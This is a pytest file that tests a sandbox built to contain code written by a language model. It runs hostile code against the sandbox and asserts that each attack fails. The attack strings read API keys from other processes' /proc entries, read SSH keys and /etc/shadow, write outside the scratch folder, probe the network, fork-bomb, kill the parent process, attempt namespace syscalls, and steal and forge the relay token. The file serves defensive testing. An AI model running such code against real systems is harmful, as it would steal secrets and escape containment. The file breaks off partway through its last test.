"""Hostile code blocks against the real worker, with API keys in the parent's environment.

Each test runs code the way a scripted root model would send it (``Sandbox.execute`` directly,
for speed; a few through ``rlm ask`` with FakeLLM) and asserts the attack FAILS, at every level
this machine has (``bwrap`` and ``process``). Where a level does not protect something here (the
``process`` level on a kernel without Landlock or seccomp, as ``rlm doctor`` reports), the attack
is skipped with the reason, never passed. CI runs this file twice: with bubblewrap, and with it
hidden from rlm (the fresh-machine default, ``auto`` = ``process``). The table in docs/sandbox.md
states what these tests prove.
"""

from __future__ import annotations

import json
import os
import platform
import pwd
import re
import shutil
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from rlm_cli import protocol
from rlm_cli.config import Settings
from rlm_cli.loop import prompts
from rlm_cli.models.client import ModelClient
from rlm_cli.models.relay import LMHandler
from rlm_cli.sandbox.launcher import Limits
from rlm_cli.sandbox.levels import protections
from rlm_cli.sandbox.paths import BWRAP_SYSTEM_DIRS, python_roots
from rlm_cli.sandbox.users import plan_drop
from tests.support.cli import model_flags, rlm_argv, run_rlm
from tests.support.fake_llm import FakeLLM, last_user, question_message, repl, task_messages
from tests.support.sandbox_kit import (
    IS_ROOT,
    SECRET,
    all_levels,
    descendants,
    expect_protected,
    need_bwrap,
    procs_named,
    sandbox,
    set_comm,
    wait_until,
)

KEY_VARS = ("OPENAI_API_KEY", "ANTHROPIC_API_KEY", "RLM_API_KEY", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN")


@pytest.fixture(autouse=True)
def keys_in_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    """The parent holds real-looking secrets in its environment during every test here."""
    for var in KEY_VARS:
        monkeypatch.setenv(var, SECRET)


def _skip_process_unless_root(level: str) -> None:
    if level == "process" and not IS_ROOT:
        pytest.skip("process level as a non-root user: the worker runs as you (see docs/sandbox.md)")


def _as_nobody(argv: list[str]) -> list[str]:
    """``argv`` run as ``nobody``, the user a root rlm gives the worker (util-linux setpriv)."""
    if not shutil.which("setpriv"):
        pytest.skip("setpriv (util-linux) is missing: cannot start a process as nobody")
    nobody = pwd.getpwnam("nobody")
    return ["setpriv", f"--reuid={nobody.pw_uid}", f"--regid={nobody.pw_gid}", "--clear-groups", *argv]


def _unless_confined(level: str, name: str) -> None:
    """Skip where ``level`` leaves ``name`` open here; as root the process level runs as nobody."""
    if not (level == "process" and IS_ROOT):
        expect_protected(level, name)


# -- keys ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("level", [*all_levels(), "none"])
def test_api_keys_are_not_in_the_worker_environment(level: str) -> None:
    with sandbox(level) as sb:
        r = sb.execute("import os\nprint(sorted(os.environ))\ntry:\n    print(open('/proc/self/environ', 'rb').read())\n"
                       "except OSError as e:\n    print(e)")
        assert SECRET not in r.output and r.ok
        names = eval(r.output.splitlines()[0])  # noqa: S307 - our own repr of a list of names
        assert set(names) <= {"PATH", "LANG", "LC_ALL", "LC_CTYPE", "TZ", "HOME", "TMPDIR", "PWD",
                              "PYTHONDONTWRITEBYTECODE", "PYTHONIOENCODING", "MALLOC_ARENA_MAX"}


@pytest.mark.parametrize("level", all_levels())
def test_api_keys_are_not_readable_from_any_visible_process(level: str) -> None:
    """Nor from /proc (environ, cmdline, memory) of rlm, of a process started with the keys in its
    environment (a shell that exported OPENAI_API_KEY), or of any other process."""
    _unless_confined(level, "files")
    holders = [subprocess.Popen(["sleep", "60"], env=dict(os.environ, OPENAI_API_KEY=SECRET))]
    if IS_ROOT:  # and one of the worker's own user (nobody): only Landlock stands between them
        holders.append(subprocess.Popen(_as_nobody(["sleep", "60"]), env=dict(os.environ, OPENAI_API_KEY=SECRET)))
    try:
        for h in holders:  # real bait
            assert wait_until(lambda h=h: SECRET.encode() in Path(f"/proc/{h.pid}/environ").read_bytes())
        with sandbox(level) as sb:
            r = sb.execute(
                f"import os\nleaks, denied, read = [], 0, 0\npids = {[str(h.pid) for h in holders]!r} + "
                f"['{os.getpid()}', str(os.getppid()), '1']\n"
                "try:\n    pids += [p for p in os.listdir('/proc') if p.isdigit()]\nexcept OSError:\n    pass\n"
                "for pid in pids:\n"
                "    for part in ('environ', 'cmdline', 'mem'):\n"
                "        try:\n"
                "            with open(f'/proc/{pid}/{part}', 'rb') as fh:\n"
                "                data = fh.read(1 << 20)\n"
                "            read += 1\n"
                f"            if {SECRET.encode()!r} in data:\n"
                "                leaks.append((pid, part))\n"
                "        except OSError:\n"
                "            denied += 1\n"
                "print('leaks', leaks, 'read', read, 'denied', denied)")
    finally:
        for h in holders:
            h.kill()
            h.wait()
    assert r.output.startswith("leaks [] "), r.output
    assert int(r.output.split("denied ")[1].split()[0]) >= 3 * (len(holders) + 2)  # at least the pids named above


# -- files ---------------------------------------------------------------------------------------


@pytest.fixture
def secret_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[list[Path]]:
    """rlm's config file, a key under home (world-readable, even), a ``.env`` in the corpus and,
    as root, a private file under /root; all hold SECRET."""
    config = Path(os.environ["RLM_CONFIG_DIR"])
    config.mkdir(parents=True, exist_ok=True)
    (config / "config.toml").write_text(f'api_key = "{SECRET}"\n')
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(f"-----BEGIN KEY-----\n{SECRET}\n")
    (home / ".ssh" / "id_rsa").chmod(0o644)  # even a world-readable key must stay out of reach
    monkeypatch.setenv("HOME", str(home))
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / ".env").write_text(f"OPENAI_API_KEY={SECRET}\n")
    files = [config / "config.toml", home / ".ssh" / "id_rsa", repo / ".env"]
    root_secret = Path(f"/root/.rlm-test-secret-{os.getpid()}")
    if IS_ROOT:
        root_secret.write_text(f"{SECRET}\n")
        root_secret.chmod(0o600)
        files.append(root_secret)
    try:
        yield files
    finally:
        root_secret.unlink(missing_ok=True)


@pytest.mark.parametrize("level", all_levels())
def test_secret_files_in_config_home_root_and_corpus_are_unreadable(level: str, secret_files: list[Path],
                                                                    tmp_path: Path) -> None:
    expect_protected(level, "files")
    assert Path.home() == tmp_path / "home"
    with sandbox(level, hide=(str(tmp_path / "repo"),)) as sb:
        r = sb.execute(f"import os\npaths = {[str(f) for f in secret_files]!r} + ["
                       f"{str(tmp_path / 'home' / '.ssh' / 'id_rsa')!r}, '/root/.ssh/id_rsa', "
                       "'/etc/ssh/ssh_host_rsa_key', '/etc/shadow']\n"
                       "for p in paths:\n    try:\n        print(p, open(p).read())\n"
                       "    except OSError as e:\n        print(p, type(e).__name__)\n"
                       f"for d in ({str(tmp_path)!r}, {str(tmp_path / 'home')!r}, '/root', '/tmp', '/home'):\n"
                       "    try:\n        print(d, 'LISTED', os.listdir(d))\n"
                       "    except OSError as e:\n        print(d, type(e).__name__)")
        lines = r.output.splitlines()
        assert SECRET not in r.output and not any(".rlm-test-secret" in line or "pytest-of" in line
                                                  for line in lines if " LISTED " in line), r.output
        assert len(lines) == len(secret_files) + 4 + 5
        # bwrap shows its own skeleton of /root and /tmp (the folders leading to Python, its tmpfs)
        assert all(line.endswith(("FileNotFoundError", "PermissionError")) for line in lines
                   if not (level == "bwrap" and line.startswith(("/root LISTED", "/tmp LISTED")))), r.output


def test_the_process_level_reads_python_and_rlm_but_nothing_else() -> None:
    """Python, rlm and the system folders stay readable (imports work), the rest of the disk not."""
    expect_protected("process", "files")
    import rlm_cli

    with sandbox("process") as sb:
        r = sb.execute("import os, sys, json, sqlite3, decimal, email.mime.text, ctypes\n"
                       f"print(len(os.listdir({str(Path(rlm_cli.__file__).parent)!r})) > 5)\n"
                       "print(os.path.isfile(os.path.join(os.path.dirname(os.__file__), 'os.py')))\n"
                       "print(open('/etc/passwd').readline().startswith('root:'))\n"
                       "for d in ('/', '/etc', '/var', '/proc', '/sys', '/dev', '/run', '/opt', '/srv', '/mnt'):\n"
                       "    try:\n        os.listdir(d)\n        print(d, 'LISTED')\n"
                       "    except OSError as e:\n        print(d, type(e).__name__)")
        lines = r.output.splitlines()
        assert lines[:3] == ["True", "True", "True"], r.output
        assert "LISTED" not in r.output and len(lines) == 13, r.output


def test_the_host_filesystem_is_absent_except_system_folders_and_python() -> None:
    need_bwrap()
    with sandbox("bwrap") as sb:
        r = sb.execute("import os\nprint(sorted(os.listdir('/')))\n"
                       "print({p: sorted(os.listdir(os.path.dirname(p))) for p in " + repr(python_roots()) + "})")
        top = set(eval(r.output.splitlines()[0]))  # noqa: S307 - a list of names we printed
        allowed = {d.strip("/").split("/")[0] for d in BWRAP_SYSTEM_DIRS} | {"dev", "proc", "tmp"}
        allowed |= {p.strip("/").split("/")[0] for p in python_roots()}
        assert top <= allowed, top - allowed
        for host in ("home", "var", "run", "srv", "mnt", "opt", "media"):
            if not any(p.startswith(f"/{host}/") for p in python_roots()):
                assert host not in top
        # Beside each Python folder only what leads to other bound folders is visible.
        parents = eval(r.output.splitlines()[1])  # noqa: S307
        roots = python_roots()
        for root, names in parents.items():
            if any(root.startswith(other + "/") for other in roots):
                continue  # a folder inside another Python folder: its siblings are Python's own
            siblings = {n for n in names if os.path.join(os.path.dirname(root), n) not in python_roots()}
            assert all(any(p.startswith(os.path.join(os.path.dirname(root), n) + "/") for p in python_roots())
                       for n in siblings), (root, siblings)


@pytest.mark.parametrize("level", all_levels())
def test_writes_outside_the_scratch_folder_fail(level: str, tmp_path: Path) -> None:
    expect_protected(level, "files")
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    corpus.chmod(0o777)  # even a folder anyone may write to
    import rlm_cli

    pkg = Path(rlm_cli.__file__).parent
    with sandbox(level, hide=(str(corpus),)) as sb:
        assert sb.scratch is not None
        targets = ["/tmp", "/etc", "/usr", "/var/tmp", str(corpus), str(pkg), sys.prefix,
                   str(Path(sb.socket_path).parent), "/proc/1"]
        targets += ["/tmp/rlm/pkg/rlm_cli", "/tmp/rlm/sock"] if level == "bwrap" else ["/dev/shm"]
        r = sb.execute(f"import os\nfor d in {targets!r}:\n    try:\n"
                       "        open(os.path.join(d, 'pwned.txt'), 'w').write('x')\n        print(d, 'WROTE')\n"
                       "    except OSError as e:\n        print(d, type(e).__name__)\n"
                       "open('inside.txt', 'w').write('ok')\nprint('scratch ok')\n"
                       "os.mkdir('sub')\nos.rename('inside.txt', 'sub/moved.txt')\nprint('rename ok')")
        assert "WROTE" not in r.output and r.output.endswith("scratch ok\nrename ok\n"), r.output
        for d in (corpus, pkg, Path(sys.prefix), Path(sb.socket_path).parent, Path("/tmp"), Path("/dev/shm")):
            assert not (d / "pwned.txt").exists()
        if level == "bwrap":  # /dev/shm inside is the sandbox's own small tmpfs: nothing reaches the host's
            r = sb.execute("open('/dev/shm/pwned.txt', 'w').write('private')\nprint('shm ok')")
            assert r.output == "shm ok\n" and not Path("/dev/shm/pwned.txt").exists()


# -- network -------------------------------------------------------------------------------------


@pytest.fixture
def listeners() -> Iterator[dict[str, object]]:
    """A TCP listener on all interfaces and a UDP socket on 127.0.0.1; records what arrives."""
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    tcp.bind(("0.0.0.0", 0))
    tcp.listen(8)
    tcp.settimeout(0.2)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.settimeout(0.2)
    seen: dict[str, object] = {"tcp": [], "udp": [], "tcp_port": tcp.getsockname()[1], "udp_port": udp.getsockname()[1]}
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, addr = tcp.accept()
                seen["tcp"].append(addr)  # type: ignore[attr-defined]
                conn.close()
            except OSError:
                pass
            try:
                seen["udp"].append(udp.recvfrom(100))  # type: ignore[attr-defined]
            except OSError:
                pass

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    # The listeners work from outside the sandbox (so an empty record below means something).
    socket.create_connection(("127.0.0.1", seen["tcp_port"]), timeout=2).close()  # type: ignore[arg-type]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.sendto(b"probe", ("127.0.0.1", seen["udp_port"]))  # type: ignore[arg-type]
    assert wait_until(lambda: len(seen["tcp"]) == 1 and len(seen["udp"]) == 1, 5)  # type: ignore[arg-type]
    seen["tcp"].clear()  # type: ignore[attr-defined]
    seen["udp"].clear()  # type: ignore[attr-defined]
    yield seen
    stop.set()
    t.join()
    tcp.close()
    udp.close()


def _host_address() -> str:
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        probe.connect(("10.255.255.255", 1))  # sends nothing; picks the outgoing interface
        return str(probe.getsockname()[0])
    except OSError:
        return "127.0.0.1"
    finally:
        probe.close()


@pytest.mark.parametrize("level", all_levels())
def test_no_tcp_or_udp_reaches_the_host(level: str, listeners: dict[str, object]) -> None:
    expect_protected(level, "network")
    host = _host_address()
    with sandbox(level) as sb:
        r = sb.execute(
            "import socket\n"
            f"for addr in [('127.0.0.1', {listeners['tcp_port']}), ('{host}', {listeners['tcp_port']}), "
            "('1.1.1.1', 443)]:\n"
            "    try:\n        socket.create_connection(addr, timeout=2)\n        print(addr, 'CONNECTED')\n"
            "    except OSError as e:\n        print(addr, type(e).__name__)\n"
            f"for addr in [('127.0.0.1', {listeners['udp_port']}), ('{host}', {listeners['udp_port']})]:\n"
            "    try:\n        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n        u.sendto(b'leak', addr)\n"
            "        print(addr, 'udp sent')\n"
            "    except OSError as e:\n        print(addr, type(e).__name__)\n"
            "try:\n    socket.getaddrinfo('example.com', 443)\n    print('DNS RESOLVED')\n"
            "except OSError as e:\n    print('dns', type(e).__name__)")
        assert "CONNECTED" not in r.output and "DNS RESOLVED" not in r.output, r.output
    time.sleep(0.5)
    assert listeners["tcp"] == [] and listeners["udp"] == []


@pytest.mark.parametrize("level", all_levels())
def test_no_ip_raw_packet_or_netlink_socket_can_be_created(level: str) -> None:
    """The seccomp filter allows socket() and socketpair() for AF_UNIX only (the relay's family)."""
    expect_protected(level, "network")
    with sandbox(level) as sb:
        r = sb.execute("import socket\n"
                       "for fam, kind in [(socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET, socket.SOCK_DGRAM),"
                       " (socket.AF_INET6, socket.SOCK_STREAM), (socket.AF_INET6, socket.SOCK_DGRAM),"
                       " (socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW),"
                       " (socket.AF_NETLINK, socket.SOCK_RAW)]:\n"
                       "    try:\n        socket.socket(fam, kind).close()\n        print(fam.name, 'CREATED')\n"
                       "    except OSError as e:\n        print(fam.name, e.strerror)\n"
                       "try:\n    socket.socketpair(socket.AF_INET)\n    print('pair CREATED')\n"
                       "except OSError as e:\n    print('pair', e.strerror)\n"
                       "a, b = socket.socketpair()\na.send(b'unix ok')\nprint(b.recv(10).decode())")
        assert "CREATED" not in r.output, r.output
        assert r.output.count("Operation not permitted") == 8 and r.output.endswith("unix ok\n"), r.output


@pytest.mark.parametrize("level", all_levels())
def test_abstract_unix_sockets_outside_the_worker_are_unreachable(level: str) -> None:
    expect_protected(level, "abstract_unix_sockets")
    name = f"\0rlm-test-abstract-{os.getpid()}"
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as srv:
        srv.bind(name)
        srv.listen(1)
        srv.settimeout(0.5)
        with sandbox(level) as sb:
            r = sb.execute(f"import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n    s.connect({name!r})\n"
                           "    print('CONNECTED')\nexcept OSError as e:\n    print(type(e).__name__)")
        assert "CONNECTED" not in r.output, r.output
        with pytest.raises(TimeoutError):
            srv.accept()


@pytest.mark.parametrize("level", all_levels())
def test_unix_sockets_by_path_outside_the_relay_are_unreachable(level: str, run_tmp: Path) -> None:
    """An ssh-agent or D-Bus socket of the user: reachable by path unless the level confines it.
    (In ``run_tmp``: a socket path must fit sun_path, whatever the suite's TMPDIR.)"""
    expect_protected(level, "unix_socket_paths")
    tmp_path = run_tmp
    path = str(tmp_path / "agent.sock")
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as srv:
        srv.bind(path)
        os.chmod(path, 0o777)
        tmp_path.chmod(0o755)
        srv.listen(1)
        srv.settimeout(0.5)
        with sandbox(level) as sb:
            r = sb.execute(f"import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n    s.connect({path!r})\n"
                           "    print('CONNECTED')\nexcept OSError as e:\n    print(type(e).__name__)")
        assert "CONNECTED" not in r.output, r.output
        with pytest.raises(TimeoutError):
            srv.accept()


# -- resources -----------------------------------------------------------------------------------


@pytest.mark.parametrize("level", all_levels())
def test_fork_bomb_is_bounded_and_every_process_dies_with_the_cell(level: str) -> None:
    _skip_process_unless_root(level)
    marker = f"rlmbomb{os.getpid() % 10000}"
    with sandbox(level, cell_timeout=4, limits=Limits(extra_processes=40)) as sb:
        r = sb.execute("import os, signal\nkids = []\ntry:\n    while True:\n        pid = os.fork()\n"
                       "        if pid == 0:\n            import time\n            time.sleep(600)\n"
                       "        kids.append(pid)\nexcept OSError as e:\n    print('refused after', len(kids), e.strerror)\n"
                       "for k in kids:\n    os.kill(k, signal.SIGKILL)\n    os.waitpid(k, 0)")
        n = int(r.output.split()[2])
        # RLIMIT_NPROC counts every process of the worker's user: the other test worker's REPL
        # workers (the same user at the process level) that end during the cell make a little room.
        assert 10 <= n <= 60 and "Resource temporarily unavailable" in r.output
        bomb = (set_comm(marker) + "import os, time\nwhile True:\n    try:\n        os.fork()\n"
                "    except OSError:\n        time.sleep(0.05)\n")
        # Watch from a thread: the worker must be (re)started by this thread, which outlives it
        # (a worker dies with the thread that started it: PR_SET_PDEATHSIG semantics).
        counts: list[int] = []
        done = threading.Event()

        def watch() -> None:
            while not done.is_set():
                counts.append(len(procs_named(marker)))
                time.sleep(0.1)

        watcher = threading.Thread(target=watch)
        watcher.start()
        try:
            bombed = sb.execute(bomb)
        finally:
            done.set()
            watcher.join()
        peak = max(counts)
        assert bombed.lost is not None and "timed out" in bombed.lost
        # It ran, and stopped near the limit (40 more than the user had); the other test worker's
        # processes of the same user that end meanwhile make room, as for `n` above (CI saw 43).
        assert 5 < peak <= 60, peak
        assert wait_until(lambda: procs_named(marker) == [], 5), procs_named(marker)
        after = sb.execute("print('next cell runs')")
        assert after.output == "next cell runs\n", after


@pytest.mark.parametrize("level", all_levels())
def test_allocating_20_gib_fails_and_the_worker_survives(level: str) -> None:
    with sandbox(level, limits=Limits(memory_bytes=1024**3)) as sb:
        r = sb.execute("buf = bytearray(20 * 1024**3)")
        assert not r.ok and "MemoryError" in r.output and r.lost is None
        r = sb.execute("import mmap\ntry:\n    m = mmap.mmap(-1, 8 * 1024**3)\n    print('MAPPED')\n"
                       "except (OSError, MemoryError) as e:\n    print(type(e).__name__)")
        assert "MAPPED" not in r.output
        assert sb.execute("print(len(context))").output == "13\n"


@pytest.mark.parametrize("level", all_levels())
def test_an_infinite_loop_times_out_and_the_next_cell_runs(level: str) -> None:
    with sandbox(level, cell_timeout=1.5) as sb:
        r = sb.execute("while True:\n    pass")
        assert r.lost == "the cell timed out after 1.5 s and was killed"  # an endless loop: no upper bound needed
        assert sb.execute("print(context)").output == "hello sandbox\n"


@pytest.mark.parametrize("level", all_levels())
def test_the_worker_cannot_kill_the_parent(level: str) -> None:
    _unless_confined(level, "signals")
    bystanders = [subprocess.Popen(["sleep", "60"])]  # another process of rlm's user
    if IS_ROOT:  # and one of the worker's own user (nobody): only Landlock's signal scope stops that
        bystanders.append(subprocess.Popen(_as_nobody(["sleep", "60"])))
    try:
        pids = [os.getpid(), *(b.pid for b in bystanders), 1]
        # (processes of nobody re-parented to rlm after a worker started count as its strays)
        time.sleep(0.1)
        with sandbox(level) as sb:
            r = sb.execute("import os, signal\n"
                           f"for pid in [os.getppid(), *{pids!r}]:\n    try:\n"
                           "        os.kill(pid, signal.SIGKILL)\n        print(pid, 'KILLED')\n"
                           "    except OSError as e:\n        print(pid, type(e).__name__)")
            assert "KILLED" not in r.output and r.lost is None, r.output
            assert sb.execute("print('worker intact')").output == "worker intact\n"
        assert all(b.poll() is None for b in bystanders)
    finally:
        for b in bystanders:
            b.kill()
            b.wait()
    # (and this test process is evidently still alive)


@pytest.mark.parametrize("level", all_levels())
def test_capabilities_are_gone_after_the_drop_to_nobody(level: str) -> None:
    if not IS_ROOT:
        pytest.skip("capabilities are only held when rlm runs as root")
    with sandbox(level) as sb:
        r = sb.execute("import re\nprint(dict(re.findall(r'(?m)^(Uid|Cap\\w+|NoNewPrivs):\\s+(\\S+)', "
                       "open('/proc/self/status').read())))")
        status = eval(r.output)  # noqa: S307 - a dict of strings we printed
        assert status["Uid"] != "0" and status["NoNewPrivs"] == "1"
        drop = plan_drop(level)[0]
        assert drop is not None and sb.drop == drop
        keep = 0x4 if drop.keep_caps == ("CAP_DAC_READ_SEARCH",) else 0  # interpreter unreadable by nobody
        for name in ("CapInh", "CapAmb"):
            assert int(status[name], 16) == 0, status
        for name in ("CapPrm", "CapEff", "CapBnd"):
            assert int(status[name], 16) == keep, status


@pytest.mark.parametrize("level", all_levels())
def test_new_user_namespaces_and_kernel_interfaces_are_refused(level: str) -> None:
    """A user namespace would give model code every capability inside it (the usual first step of
    a kernel exploit); the seccomp filter refuses it, while threads, fork and subprocess work."""
    if platform.machine() not in ("x86_64", "aarch64"):
        pytest.skip(f"no seccomp table for {platform.machine()}")
    with sandbox(level) as sb:
        r = sb.execute("import ctypes, os, subprocess, threading\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                       "def err(rc):\n    return os.strerror(ctypes.get_errno()) if rc == -1 else 'ALLOWED'\n"
                       "print('unshare', err(libc.unshare(0x10000000)))\n"
                       "print('clone', err(libc.syscall(56 if os.uname().machine == 'x86_64' else 220, "
                       "0x10000000 | 17, 0, 0, 0, 0)))\n"
                       "print('bpf', err(libc.syscall(321 if os.uname().machine == 'x86_64' else 280, 0, 0, 0)))\n"
                       "t = threading.Thread(target=print, args=('thread ok',))\nt.start()\nt.join()\n"
                       "print('subprocess', subprocess.run(['true']).returncode)\n"
                       "print('seccomp', open('/proc/self/status').read().split('Seccomp:')[1].split()[0])")
        assert r.output == ("unshare Operation not permitted\nclone Operation not permitted\n"
                            "bpf Operation not permitted\nthread ok\nsubprocess 0\nseccomp 2\n"), r.output


def _hwm_kib() -> int:
    with open("/proc/self/status") as fh:
        return int(re.search(r"VmHWM:\s+(\d+)", fh.read()).group(1))  # type: ignore[union-attr]


@pytest.mark.parametrize("level", all_levels())
def test_printing_200_mb_is_capped_and_the_parent_stays_small(level: str) -> None:
    try:
        with open("/proc/self/clear_refs", "w") as fh:
            fh.write("5")  # reset the peak-RSS mark of this process
    except OSError:
        pass
    before = _hwm_kib()
    with sandbox(level) as sb:
        r = sb.execute("import os\nprint('x' * 200_000_000)\n_ = os.write(1, b'y' * 50_000_000)\n"
                       "_ = os.write(2, b'z' * 50_000_000)")
        assert r.ok and r.output_chars == 200_000_001
        assert len(r.output) < 230_000 and "characters omitted" in r.output
        r = sb.execute("for i in range(300_000):\n    print('line', i, 'x' * 60)")
        assert r.ok and r.output_chars > 20_000_000 and len(r.output) < 230_000
    assert _hwm_kib() - before < 100_000, "the parent's peak memory grew by more than 100 MB"


# -- the model relay socket ----------------------------------------------------------------------


#: Raw relay access from model code. The worker keeps its token in a closure, not an attribute;
#: code can still dig it out (as here), which is why the relay also checks who is calling.
_RAW_CALL = ("import socket, struct, json, re\nw = llm_query.__self__\n"
             "token = next(c.cell_contents for c in w._request.__closure__\n"
             "             if re.fullmatch('[0-9a-f]{32}', str(c.cell_contents)))\n"
             "def call(msg=None, raw=None):\n"
             "    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n    s.settimeout(10)\n"
             "    s.connect(w.socket_path)\n"
             "    if raw is None:  # the hello (token, type), then the request\n"
             "        hello = json.dumps({'token': msg.get('token'), 'type': msg.get('type')}).encode()\n"
             "        body = json.dumps({k: v for k, v in msg.items() if k not in ('token', 'type')}).encode()\n"
             "        raw = struct.pack('>I', len(hello)) + hello + struct.pack('>I', len(body)) + body\n"
             "    try:\n        s.sendall(raw)\n    except BrokenPipeError:  # closed unread\n        return b''\n"
             "    s.shutdown(socket.SHUT_WR)\n"
             "    data = b''\n    while True:\n        try:\n            chunk = s.recv(65536)\n"
             "        except ConnectionResetError:\n            chunk = b''\n        if not chunk:\n"
             "            break\n        data += chunk\n    s.close()\n    return data\n")


@pytest.fixture
def relay(llm: FakeLLM) -> Iterator[tuple[LMHandler, list[tuple[str, str | None, int]]]]:
    """A real LMHandler relaying to FakeLLM; ``rlm_query`` calls are recorded with their depth."""
    settings = Settings(model="openai/root", sub_model="openai/sub", api_base=llm.url)
    if hasattr(settings, "llm_cache"):
        settings.llm_cache = False
    calls: list[tuple[str, str | None, int]] = []

    def on_rlm_query(prompt: str, context: str | None, depth: int) -> str:
        calls.append((prompt, context, depth))
        return f"child answer at depth {depth}"

    handler = LMHandler(ModelClient(settings), on_rlm_query=on_rlm_query)
    yield handler, calls
    handler.close()


@pytest.mark.parametrize("level", all_levels())
def test_frames_without_the_token_get_no_answer_and_reach_no_model(
        level: str, llm: FakeLLM, relay: tuple[LMHandler, list[tuple[str, str | None, int]]]) -> None:
    handler, calls = relay
    llm.default("sub", "genuine sub answer")
    token = handler.register(0)
    with sandbox(level, socket_path=handler.socket_path, token=token) as sb:
        handler.bind(token, lambda: getattr(sb.proc, "pid", None))
        r = sb.execute(_RAW_CALL + "print([call({'type': 'completion', 'prompt': 'hi', 'token': t}) "
                       "for t in ('0' * 32, '', None, token[:-1] + 'x')])\n"
                       "print(call({'type': 'rlm_query', 'prompt': 'p'}))\n"
                       "print(call(raw=struct.pack('>I', 2**31) + b'{'))\nprint(call(raw=b'\\x00\\x00'))")
        assert r.output == "[b'', b'', b'', b'']\nb''\nb''\nb''\n", r.output
        assert llm.requests == [] and calls == []
        # The same channel with the worker's own token works, so the refusals above mean something.
        r = sb.execute("print(llm_query('hello'))")
        assert r.output == "genuine sub answer\n" and len(llm.requests) == 1


@pytest.mark.parametrize("level", all_levels())
def test_depth_comes_from_the_token_registry_not_from_the_request(
        level: str, relay: tuple[LMHandler, list[tuple[str, str | None, int]]]) -> None:
    handler, calls = relay
    for depth in (0, 2):
        token = handler.register(depth)
        with sandbox(level, socket_path=handler.socket_path, token=token) as sb:
            handler.bind(token, lambda: getattr(sb.proc, "pid", None))  # noqa: B023 - used in this iteration
            r = sb.execute(_RAW_CALL + "print(call({'type': 'rlm_query', 'prompt': 'deeper', 'context': 'c', "
                           "'depth': -5, 'max_depth': 99, 'token': token})[4:].decode())\n"
                           "print(rlm_query('plain', 'ctx'))")
            lines = r.output.splitlines()
            assert json.loads(lines[0])["text"] == f"child answer at depth {depth}", r.output
            assert lines[1] == f"child answer at depth {depth}"
    assert [c[2] for c in calls] == [0, 0, 2, 2]


@pytest.mark.parametrize("level", all_levels())
def test_a_token_is_refused_from_any_process_but_its_own_worker(
        level: str, llm: FakeLLM, relay: tuple[LMHandler, list[tuple[str, str | None, int]]]) -> None:
    """Worker B holding worker A's token (stolen and passed on) gets nothing; so do an unbound token
    and A's token once A is gone; A itself, and a process A forks, are served."""
    handler, calls = relay
    llm.default("sub", "genuine sub answer")
    token_a, token_b = handler.register(0), handler.register(1)
    with sandbox(level, socket_path=handler.socket_path, token=token_a) as a, \
            sandbox(level, socket_path=handler.socket_path, token=token_b) as b:
        ask = _RAW_CALL + ("print(call({'type': 'rlm_query', 'prompt': 'p', 'context': 'c', 'token': TOKEN}))\n"
                           "import os\nrd, wr = os.pipe()\npid = os.fork()\nif pid == 0:\n"
                           "    os.write(wr, call({'type': 'completion', 'prompt': 'hi', 'token': TOKEN})[4:])\n"
                           "    os._exit(0)\nos.close(wr)\nos.waitpid(pid, 0)\nprint(os.read(rd, 65536).decode())")
        stolen = a.execute(_RAW_CALL + "print(token)").output.strip()
        assert re.fullmatch("[0-9a-f]{32}", stolen)
        assert a.execute(ask.replace("TOKEN", repr(stolen))).output == "b''\n\n"  # A is not bound yet
        handler.bind(token_a, lambda: getattr(a.proc, "pid", None))
        handler.bind(token_b, lambda: getattr(b.proc, "pid", None))
        assert calls == [] and llm.requests == []
        r = b.execute(ask.replace("TOKEN", repr(stolen)))
        assert r.output == "b''\n\n", r.output  # B with A's token: not a word
        assert calls == [] and llm.requests == []
        r = a.execute(ask.replace("TOKEN", repr(stolen)))
        lines = r.output.splitlines()
        assert json.loads(lines[0][lines[0].index("{"):-1])["text"] == "child answer at depth 0", r.output
        assert json.loads(lines[1])["text"] == "genuine sub answer", r.output  # A's forked child
        assert [c[2] for c in calls] == [0]
    assert handler._tokens[token_a].owner is not None and handler._tokens[token_a].owner() is None


def test_rlm_query_past_the_depth_limit_becomes_a_plain_call(llm: FakeLLM, tmp_path: Path) -> None:
    """Through the real runner: with --max-depth 1 a forged 'depth: -5' still gets a plain sub-call."""
    from tests.support.inproc import corpus, run

    llm.script("root", repl(_RAW_CALL + "print(call({'type': 'rlm_query', 'prompt': 'go deeper', 'depth': -5, "
                                        "'token': token}))"),
               repl("FINAL('done')"))
    llm.default("sub", "plain sub answer")
    res = run(llm, [corpus(tmp_path)], max_depth=1, mode="rlm")
    assert res.error is None, res.error
    assert [e["mode"] for e in res.of("recursion")] == ["plain"]
    assert len(llm.chat_requests("sub")) == 1 and "go deeper" in last_user(llm.chat_requests("sub")[0])
    assert len(llm.chat_requests("root")) == 2  # no child loop ran


# -- through `rlm ask` -------------------------------------------------------------------------


def test_rlm_ask_at_the_default_level_blocks_files_network_and_signals(
